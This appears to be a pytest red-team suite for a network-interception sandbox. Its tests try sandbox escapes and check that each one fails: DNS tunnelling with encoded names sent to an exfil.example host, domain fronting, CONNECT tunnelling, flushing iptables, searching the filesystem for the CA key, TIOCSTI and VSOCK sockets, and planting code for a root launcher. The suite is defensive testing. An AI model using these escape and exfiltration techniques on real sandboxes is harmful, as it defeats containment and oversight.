"""The red team: a workload inside the sandbox trying every way out it can think of.

Each case proves from the lab's receipt log that nothing reached the target, and, where a
request reached the interceptor, from the decision log what was decided.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from intercept_proxy import netns

pytestmark = pytest.mark.netns

PROBE = Path(__file__).with_name("probe.py")
PYTHON_BIN = Path(sys.executable).parent
INTERCEPT_RUN = (sys.executable, "-m", "intercept_proxy", "run")
SIDECAR_PORTS = (15000, 15001, 15002, 15020, 15021, 15053, 15090)


def probe(sandbox, *jobs: dict) -> list[dict]:
    """Run socket-level attempts inside the workload (see probe.py); one result per job."""
    # The project's interpreter: it has dnslib, and the workload's UID may run it.
    result = sandbox.exec([sys.executable, str(PROBE), json.dumps(list(jobs))], timeout=120)
    assert result.returncode == 0, result.stderr.decode()
    return json.loads(result.stdout)


def settle() -> None:
    time.sleep(0.3)  # the lab flushes each receipt as it writes it; this is its delivery time


def lab_ip(sandbox, name: str, version: int = 4) -> str:
    host = sandbox.lab.host(name)
    return host.ipv4 if version == 4 else host.ipv6


def unchanged(sandbox, host: str, action) -> None:
    before = len(sandbox.received(host))
    out = action()
    settle()
    assert sandbox.received(host)[before:] == [], f"{host} received something"
    return out


def last_decision(sandbox, **match) -> dict:
    return sandbox.decisions(lambda r: all(r.get(k) == v for k, v in match.items()))[-1]


@pytest.mark.parametrize("port", [22, 25, 8080, 8443, 5432])
@pytest.mark.parametrize("version", [4, 6])
def test_raw_tcp_to_any_other_port(sandbox, port, version):
    address = lab_ip(sandbox, "unknown.example", version)
    (result,) = unchanged(
        sandbox,
        "unknown.example",
        lambda: probe(sandbox, {"kind": "tcp", "address": address, "port": port}),
    )
    assert result["connected"] is False


@pytest.mark.parametrize("port", [443, 8125, 53, 123])
@pytest.mark.parametrize("version", [4, 6])
def test_raw_udp_including_quic(sandbox, port, version):
    address = lab_ip(sandbox, "unknown.example", version)
    unchanged(
        sandbox,
        "unknown.example",
        lambda: probe(sandbox, {"kind": "udp", "address": address, "port": port, "count": 3}),
    )
    # UDP 53 to any address is the sinkhole's, never the lab's.
    assert not [r for r in sandbox.lab.receipts() if r["address"] == address]


def test_icmp_ping(sandbox):
    for address in (lab_ip(sandbox, "pypi.org", 4), lab_ip(sandbox, "pypi.org", 6)):
        result = sandbox.sh(f"ping -c 1 -W 2 {address}")
        assert result.returncode != 0


def test_tls_to_a_lab_address_without_sni(sandbox):
    """By IP: no name, no SNI. The placeholder certificate; and if accepted anyway, a denial."""
    for version in (4, 6):
        address = lab_ip(sandbox, "unknown.example", version)
        host = f"[{address}]" if version == 6 else address
        result = unchanged(
            sandbox,
            "unknown.example",
            lambda host=host: sandbox.sh(f"curl -sk https://{host}/secret"),
        )
        assert json.loads(result.stdout)["error"]["rule"] in ("missing_sni", "invalid_host")


def test_no_sni_tls_with_an_allowed_host_header(sandbox):
    (result,) = unchanged(
        sandbox,
        "pypi.org",
        lambda: probe(
            sandbox, {"kind": "https", "host": "pypi.org", "sni": None, "path": "/nosni"}
        ),
    )
    assert result["status"] == 403
    assert json.loads(result["body"])["error"]["rule"] == "missing_sni"


@pytest.mark.parametrize(
    ("sni", "host"),
    [("pypi.org", "unknown.example"), ("unknown.example", "pypi.org")],
)
def test_domain_fronting_both_ways(sandbox, sni, host):
    def attempt():
        return probe(sandbox, {"kind": "https", "host": host, "sni": sni, "path": "/front"})

    (result,) = unchanged(
        sandbox, "unknown.example", lambda: unchanged(sandbox, "pypi.org", attempt)
    )
    assert result["status"] == 403
    assert json.loads(result["body"])["error"]["rule"] == "sni_mismatch"


def test_http2_authority_mismatch(sandbox):
    result = unchanged(
        sandbox,
        "api.anthropic.com",
        lambda: sandbox.sh(
            "curl -s --http2 -H 'Host: api.anthropic.com' -X POST https://pypi.org/h2front"
        ),
    )
    assert json.loads(result.stdout)["error"]["rule"] == "sni_mismatch"
    assert last_decision(sandbox, path="/h2front")["allow"] is False


def test_absolute_form_request_targets(sandbox):
    jobs = [
        # Over TLS to an allowed name, asking for another host in the request line.
        {"kind": "https", "host": "pypi.org", "sni": "pypi.org", "path": "/abs",
         "target": "https://unknown.example/abs"},
        # Over plain HTTP to an allowed name.
        {"kind": "http", "host": "pypi.org", "path": "/abs2", "target": "http://unknown.example/abs2"},
    ]  # fmt: skip
    results = unchanged(sandbox, "unknown.example", lambda: probe(sandbox, *jobs))
    assert [r["status"] for r in results] == [403, 403]
    assert json.loads(results[0]["body"])["error"]["rule"] == "sni_mismatch"
    assert json.loads(results[1]["body"])["error"]["rule"] == "default_deny"


def test_connect_through_an_allowed_host(sandbox):
    jobs = [
        {"kind": "http", "host": "pypi.org", "method": "CONNECT", "target": "unknown.example:443"},
        {"kind": "https", "host": "api.anthropic.com", "sni": "api.anthropic.com",
         "method": "CONNECT", "target": "unknown.example:443"},
    ]  # fmt: skip
    results = unchanged(sandbox, "unknown.example", lambda: probe(sandbox, *jobs))
    assert all(r["status"] in (400, 403, 404) for r in results), results
    assert all(not r.get("tunnel") for r in results)


def test_an_allowed_sni_aimed_at_another_hosts_address_goes_to_the_named_host(sandbox):
    """The workload picks the address; Envoy picks the upstream by name."""
    address = lab_ip(sandbox, "unknown.example")
    before = len(sandbox.received("pypi.org"))
    result = unchanged(
        sandbox,
        "unknown.example",
        lambda: sandbox.sh(f"curl -s --resolve pypi.org:443:{address} https://pypi.org/pinned"),
    )
    assert json.loads(result.stdout)["server"] == "pypi.org"
    settle()
    assert any(r.get("path") == "/pinned" for r in sandbox.received("pypi.org")[before:])


def test_dns_tunnelling(sandbox):
    resolver = sandbox.lab.dns_servers[0]
    jobs = [
        # Through the configured resolver: TXT for an exfiltration name.
        {"kind": "dns", "server": "127.0.0.53", "name": "c2VjcmV0.exfil.example", "type": "TXT"},
        # Straight at the lab's resolver and at a lab host, over UDP and TCP.
        {"kind": "dns", "server": resolver, "name": "bG9vdA.exfil.example", "type": "A"},
        {"kind": "dns", "server": resolver, "name": "bG9vdA.exfil.example", "type": "A",
         "tcp": True},
        {"kind": "dns", "server": lab_ip(sandbox, "unknown.example", 6), "name": "x.exfil.example",
         "type": "AAAA"},
    ]  # fmt: skip
    before = len(sandbox.lab.receipts())
    results = probe(sandbox, *jobs)
    settle()
    assert [
        r for r in sandbox.lab.receipts()[before:] if r["protocol"] in ("dns", "udp", "tcp")
    ] == []
    assert results[0]["answers"] == []  # TXT: nothing to carry data back
    assert results[1]["answers"][0].startswith("198.51.100.")  # the sinkhole, not the lab
    assert results[2]["answers"][0].startswith("198.51.100.")
    assert results[3]["answers"][0].startswith("2001:db8:")


@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
def test_every_sidecar_port(sandbox, address):
    jobs = [{"kind": "tcp", "address": address, "port": port} for port in SIDECAR_PORTS]
    jobs.append({"kind": "dns", "server": address, "port": 15053, "name": "x.test", "type": "A"})
    results = probe(sandbox, *jobs)
    assert [r["connected"] for r in results[:-1]] == [False] * len(SIDECAR_PORTS)
    assert results[-1]["answers"] is None  # no reply: refused


# (uid_t)-1 and its aliases mean "unchanged" to setuid: the workload would have stayed root.
@pytest.mark.parametrize("uid", ["0", "101", "102", "-1", "4294967295", "2147483648", "33"])
def test_a_workload_asking_to_run_as_a_sidecar_uid_root_or_a_system_user(uid, tmp_path):
    marker = tmp_path / "ran"
    result = subprocess.run(
        [*INTERCEPT_RUN, "--user", uid, "--", "touch", str(marker)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2
    assert f"intercept run: --user {uid}: give a UID from 1000" in result.stderr
    assert not marker.exists()


def test_a_workload_searching_the_filesystem_for_the_ca_key(sandbox):
    key_file = sandbox.pod.volumes.path("intercept-ca") / "ca.key"
    key_line = key_file.read_text().splitlines()[1]  # a line of the key's base64
    # Every file made or changed since the key was written (a copy is: its inode's change time
    # is set then, whatever its modification time says): reading every file instead would read
    # this machine's tool caches, gigabytes, for no file that could hold the key.
    since = int(key_file.stat().st_mtime) - 1
    # A decoy the workload may read, which the search must find (it is not vacuous); it is the
    # only file allowed to be found.
    decoy = Path("/srv") / f"intercept-redteam-decoy-{os.getpid()}"
    marker = f"decoy-{secrets.token_hex(8)}"
    decoy.write_text(marker + "\n")
    decoy.chmod(0o644)
    try:
        result = sandbox.sh(
            f"find /tmp /run /var /etc /opt /srv /home /work -type f -newerct @{since} -print0 "
            f"2>/dev/null | xargs -0 -r grep -lsF -e '{marker}' -e '{key_line}'; echo ---; "
            "ls -d /tmp/intercept-pod-* 2>&1; cat /var/run/intercept/ca/ca.key 2>&1",
            timeout=300,
        )
    finally:
        decoy.unlink()
    found, _, out = result.stdout.decode().partition("---\n")
    assert found.split() == [str(decoy)], found
    assert key_line not in out
    # The pod's own directory (root's alone) is not even in the workload's /tmp, and the CA
    # volume is not mounted into the workload.
    assert out.count("No such file") == 2, out


def test_a_workload_editing_the_policy_or_the_rules(sandbox):
    policy_dir = sandbox.pod.volumes.path("intercept-policy")
    original = (policy_dir / "policy.yaml").read_text()
    attempts = sandbox.sh(
        f"echo 'unrestricted_domains: [unknown.example]' > {policy_dir}/policy.yaml; "
        "echo 'unrestricted_domains: [unknown.example]' > /etc/intercept/policy/policy.yaml; "
        "iptables -t nat -F; ip6tables -F; ip route add 198.18.0.0/15 dev lo",
    )
    assert attempts.returncode != 0
    assert (policy_dir / "policy.yaml").read_text() == original
    # The very options the pod's proxy-init ran with.
    options = [*sandbox.spec["spec"]["initContainers"][0]["command"][2:], "--netns", sandbox.netns]
    verify = subprocess.run(
        [sys.executable, "-m", "intercept_proxy", "proxy-init", *options, "--verify"],
        capture_output=True,
        text=True,
    )
    assert verify.returncode == 0, verify.stdout + verify.stderr
    result = unchanged(
        sandbox, "unknown.example", lambda: sandbox.sh("curl -s https://unknown.example/after")
    )
    assert json.loads(result.stdout)["error"]["rule"] == "default_deny"


def test_the_workload_has_no_capabilities(sandbox):
    status = sandbox.sh("grep -E '^Cap(Eff|Prm|Amb|Inh)' /proc/self/status").stdout.decode()
    assert all(line.split()[1] == "0000000000000000" for line in status.splitlines()), status
    assert netns.exists(sandbox.netns)


def test_riding_a_sidecars_udp_flow(sandbox):
    """A sidecar's DNS query leaves a conntrack entry; the workload re-sends from the same port
    to the same resolver, hoping the packet passes as part of that flow."""
    resolver = sandbox.lab.dns_servers[0]
    send = (
        "import socket, sys\n"
        "from dnslib import DNSRecord\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        "s.bind(('0.0.0.0', 42424))\n"
        f"s.sendto(DNSRecord.question(sys.argv[1], 'TXT').pack(), ('{resolver}', 53))\n"
    )
    as_agent = ["setpriv", "--reuid=102", "--regid=102", "--clear-groups"]
    agent = netns.run(sandbox.netns, [*as_agent, sys.executable, "-c", send, "sidecar.ride.test"])
    assert agent.returncode == 0, agent.stderr
    sandbox.exec([sys.executable, "-c", send, "workload.ride.test"])
    settle()
    names = [(r["query_name"] or "").rstrip(".") for r in sandbox.lab.receipts()]
    assert [n for n in names if n.endswith("ride.test")] == ["sidecar.ride.test"]


def test_what_no_ip_rule_sees_is_blocked_too(sandbox):
    """Socket families beyond IP (VSOCK to the hypervisor, packet sockets), typing into a
    terminal (TIOCSTI), and user namespaces: the runtime's seccomp filter."""
    script = (
        "import errno, fcntl, os, socket, subprocess\n"
        "def attempt(f):\n"
        "    try:\n"
        "        f(); return 'allowed'\n"
        "    except OSError as e:\n"
        "        return errno.errorcode[e.errno]\n"
        "master, slave = os.openpty()\n"
        "print(attempt(lambda: socket.socket(40, socket.SOCK_STREAM)))\n"
        "print(attempt(lambda: socket.socket(17, socket.SOCK_RAW)))\n"
        "print(attempt(lambda: fcntl.ioctl(slave, 0x5412, b'x')))\n"
        "print(subprocess.run(['unshare', '-Ur', 'true']).returncode != 0)\n"
    )
    result = sandbox.exec([sys.executable, "-c", script])
    assert result.stdout.decode().split() == ["EAFNOSUPPORT", "EAFNOSUPPORT", "EPERM", "True"]


def test_the_workload_is_isolated_from_this_machine(sandbox):
    """Its own PID, IPC and UTS namespaces; this machine's files read-only but /tmp; its own
    /dev/shm and HOME."""
    script = (
        "ps -e -o comm= | sort -u | tr '\\n' ' '; echo;"
        "touch /etc/intercept-test 2>&1 | grep -c 'Read-only';"
        "touch /work/intercept-test 2>&1 | grep -c 'Read-only';"
        "touch /tmp/intercept-redteam-$$ && echo tmp-ok && rm /tmp/intercept-redteam-$$;"
        "touch $HOME/profile && echo home-ok;"
        "ls /dev/shm | wc -l"
    )
    queues = subprocess.run(["ipcs", "-q"], capture_output=True, text=True).stdout
    made = sandbox.sh("ipcmk -Q").stdout.decode()
    assert "Message queue id" in made
    assert subprocess.run(["ipcs", "-q"], capture_output=True, text=True).stdout == queues
    lines = sandbox.sh(script).stdout.decode().splitlines()
    processes = lines[0].split()
    assert "sleep" in processes and "sh" in processes
    assert not {"envoy", "python3", "systemd", "sshd"} & set(processes)
    assert lines[1:] == ["1", "1", "tmp-ok", "home-ok", "0"]


def test_the_launcher_never_imports_from_the_working_directory(tmp_path):
    """The workload may write where it runs; root's launcher must not load code from there."""
    work = Path(tempfile.mkdtemp(prefix="redteam-plant-", dir="/tmp"))
    work.chmod(0o755)  # the workload's user enters its working directory (mkdtemp: 0700)
    try:
        marker = work / "planted-code-ran"
        (work / "intercept_proxy").mkdir()
        (work / "intercept_proxy" / "__init__.py").write_text(
            f"open({str(marker)!r}, 'w').write('root')\n"
        )
        (work / "lab.yaml").write_text("hosts: [{name: pypi.org}]\n")
        result = subprocess.run(
            [PYTHON_BIN / "intercept", "run", "--lab", "lab.yaml", "--user", "12345", "--", "true"],
            cwd=work,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert result.returncode == 0, result.stderr
        assert not marker.exists()
    finally:
        shutil.rmtree(work, ignore_errors=True)
